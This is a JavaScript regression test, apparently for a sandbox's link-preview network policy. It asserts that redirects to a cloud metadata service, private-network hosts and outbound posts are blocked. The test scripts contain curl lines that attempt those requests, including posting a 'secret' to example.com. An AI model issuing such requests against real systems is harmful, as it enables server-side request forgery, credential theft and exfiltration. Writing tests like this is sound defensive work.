/**
 * The attack: a link whose page redirects to a metadata service, or whose name is an address of the private network; and a job that
 * sends what it has. A regression would show as a connection at the far side.
 */
import assert from 'node:assert/strict'
import { testFolder } from '../support/checkout.js'
import { ROUTER_ADDRESS } from '../support/internet/index.js'
import { USERS } from '../support/users.js'
import { PUBLIC, reachedOf, sitesOf } from './sites.js'
import { control, online, runOnline, usage, withPrograms } from './tools.js'

const NEEDS = ['/usr/bin/curl']
const { ca, internet: public_, put } = sitesOf(['example.com', 'redirect.test'])
const internet = { ...public_, zone: { ...public_.zone, 'inside.test': [[ROUTER_ADDRESS]] } }
const flags = ['--input', `${ca}:ca.pem`, '--env', 'CURL_CA_BUNDLE=/job/ca.pem']
put('example.com/index.html', '<title>A page</title>\n')

withPrograms(NEEDS, 'link preview: a public page is fetched', async (user, t) => {
  const folder = testFolder(t, 0o777)
  const { status, stdout, stderr, seen } = await runOnline(user, usage('link-preview'), {
    folder,
    flags,
    ...internet,
  })
  assert.equal(status, 0, stderr)
  assert.equal(stdout, '<title>A page</title>\n')
  assert.deepEqual(reachedOf(seen), [PUBLIC])
})

withPrograms(
  NEEDS,
  'link preview: no redirect and no name leads to a metadata service or a private network, and nothing is posted',
  async (user, t) => {
    const folder = testFolder(t, 0o777)
    const curl = 'curl -sSLf --max-time 10'
    const script = [
      `${curl} http://redirect.test/ && echo redirected`,
      `${curl} http://inside.test/ && echo inside`,
      `${curl} http://${ROUTER_ADDRESS}/ && echo literal`,
      `${curl} -d secret http://example.com/ && echo posted`,
      `${curl} http://example.com/`,
    ].join('; ')
    const args = ['--policy', 'link-preview', '--', 'sh', '-c', script]
    const { status, stdout, stderr, seen } = await runOnline(user, args, { folder, ...internet })
    assert.equal(status, 0, stderr)
    assert.equal(stdout, '<title>A page</title>\n', stderr)
    assert.deepEqual(reachedOf(seen), [PUBLIC])
  },
)

control(NEEDS, 'link preview: both are reached', async (t) => {
  const [self] = USERS
  assert.ok(self)
  const argv = 'curl -sSL http://redirect.test/ http://inside.test/'.split(' ')
  const { seen } = await online(self, argv, { folder: testFolder(t, 0o777), ...internet })
  assert.deepEqual(reachedOf(seen), [ROUTER_ADDRESS, '169.254.169.254', PUBLIC].sort())
})
